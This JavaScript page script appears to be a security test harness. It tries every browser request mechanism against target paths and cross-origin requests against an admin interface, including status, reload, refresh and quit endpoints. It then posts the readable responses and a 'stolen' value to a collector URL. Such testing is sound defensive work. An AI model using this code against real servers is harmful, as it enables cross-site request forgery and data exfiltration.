// Every way in which a page can make a browser send a request. Each has its own path below the target, and what the page could
// read of the responses is reported to the collector. Then the page continues with the next.

const plan = JSON.parse(document.getElementById("plan").textContent);
const url = (way) => `${plan.target}/attack/${plan.tag}/${way}`;
const sockets = (address) => address.replace("http:", "ws:");

function settled(element, parent = document.body) {
  return new Promise((resolve) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("refused");
    parent.append(element);
    setTimeout(resolve, 4000, "silent");
  });
}

function element(name, attributes, parent) {
  return settled(Object.assign(document.createElement(name), attributes), parent);
}

async function frame(attributes) {
  const made = Object.assign(document.createElement("iframe"), attributes);
  await settled(made);
  return made.contentDocument ? made.contentDocument.documentElement.outerHTML : "nothing";
}

async function form(way, method) {
  const name = `frame-${way}`;
  const target = frame({ name });
  const made = Object.assign(document.createElement("form"), { action: url(way), method, target: name });
  made.innerHTML = "<input name=a value=b>";
  document.body.append(made);
  made.submit();
  return target;
}

async function text(address, options) {
  const answer = await fetch(address, options);
  return `${answer.status} ${await answer.text()}`;
}

function socket(address) {
  return new Promise((resolve) => {
    const made = new WebSocket(address);
    made.onopen = () => resolve("opened");
    made.onerror = () => resolve("refused");
  });
}

function events(address) {
  return new Promise((resolve) => {
    const made = new EventSource(address);
    made.onmessage = (event) => resolve(event.data);
    made.onerror = () => (made.close(), resolve("refused"));
    setTimeout(resolve, 4000, "silent");
  });
}

function request(way) {
  return new Promise((resolve) => {
    const made = new XMLHttpRequest();
    made.onloadend = () => resolve(`${made.status} ${made.responseText}`);
    made.open("GET", url(way));
    made.withCredentials = true;
    made.send();
  });
}

function speculate(rules) {
  document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text: JSON.stringify(rules) }));
  return "asked";
}

function ping(way) {
  const link = Object.assign(document.createElement("a"), { href: "#", ping: url(way) });
  document.body.append(link);
  link.click();
  return "asked";
}

function styled(css) {
  document.head.append(Object.assign(document.createElement("style"), { textContent: css }));
  document.body.append(Object.assign(document.createElement("div"), { className: "styled", textContent: "x" }));
  return "asked";
}

async function serviceWorker() {
  await navigator.serviceWorker.register(`/worker.js?${encodeURIComponent(url("service-worker"))}`);
  return "asked";
}

const post = { method: "POST", body: "a=b" };
const admin = (path) => `${plan.admin}${path}`;

const ways = {
  "fetch-cors": () => text(url("fetch-cors")),
  "fetch-credentials": () => text(url("fetch-credentials"), { credentials: "include" }),
  "fetch-no-cors": () => text(url("fetch-no-cors"), { mode: "no-cors" }),
  "fetch-post-no-cors": () => text(url("fetch-post-no-cors"), { ...post, mode: "no-cors", credentials: "include" }),
  "fetch-keepalive": () => text(url("fetch-keepalive"), { ...post, mode: "no-cors", keepalive: true }),
  "fetch-put": () => text(url("fetch-put"), { method: "PUT", headers: { "x-own": "1" } }),
  xhr: () => request("xhr"),
  "form-get": () => form("form-get", "get"),
  "form-post": () => form("form-post", "post"),
  img: () => element("img", { src: url("img") }),
  "img-cors": () => element("img", { crossOrigin: "anonymous", src: url("img-cors") }),
  script: () => element("script", { src: url("script") }),
  "script-module": () => element("script", { type: "module", src: url("script-module") }),
  stylesheet: () => element("link", { rel: "stylesheet", href: url("stylesheet") }, document.head),
  import: () => styled(`@import url("${url("import")}");`),
  background: () => styled(`.styled { background: url("${url("background")}"); }`),
  iframe: () => frame({ src: url("iframe") }),
  object: () => element("object", { data: url("object") }),
  video: () => element("video", { src: url("video"), preload: "auto" }),
  websocket: () => socket(sockets(url("websocket"))),
  "event-source": () => events(url("event-source")),
  beacon: () => String(navigator.sendBeacon(url("beacon"), "a=b")),
  ping: () => ping("ping"),
  "link-prefetch": () => element("link", { rel: "prefetch", href: url("link-prefetch") }, document.head),
  "link-preload": () => element("link", { rel: "preload", as: "image", href: url("link-preload") }, document.head),
  "link-modulepreload": () => element("link", { rel: "modulepreload", href: url("link-modulepreload") }, document.head),
  "link-prerender": () => element("link", { rel: "prerender", href: url("link-prerender") }, document.head),
  "rules-prefetch": () => speculate({ prefetch: [{ source: "list", urls: [url("rules-prefetch")], eagerness: "immediate" }] }),
  "rules-prerender": () => speculate({ prerender: [{ source: "list", urls: [url("rules-prerender")], eagerness: "immediate" }] }),
  "service-worker": serviceWorker,
  worker: () => String(new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(url("worker"))})`])))),
  "admin-status": () => text(admin("/status")),
  "admin-dashboard": () => frame({ src: admin("/") }),
  "admin-events": () => events(admin("/events")),
  "admin-refresh": () => text(admin("/refresh?upstream=browsed"), { ...post, mode: "no-cors" }),
  "admin-refresh-cors": () => text(admin("/refresh?upstream=browsed"), post),
  "admin-reload": () => String(navigator.sendBeacon(admin("/reload"), "")),
  "admin-quit": () => text(admin("/quit"), { ...post, mode: "no-cors" }),
  "admin-rules": () => speculate({ prefetch: [{ source: "list", urls: [admin("/status")], eagerness: "immediate" }] }),
};

async function told(way) {
  try {
    return String(await ways[way]());
  } catch (error) {
    return `refused: ${error}`;
  }
}

const names = Object.keys(ways);
const read = Object.fromEntries(await Promise.all(names.map(async (way) => [way, await told(way)])));
// Speculative requests come when the browser is idle.
await new Promise((resolve) => setTimeout(resolve, 1500));
read.stolen = String(window.stolen);
await fetch(plan.collector, { method: "POST", mode: "no-cors", body: JSON.stringify({ tag: plan.tag, read }) });
if (plan.next) location = plan.next;
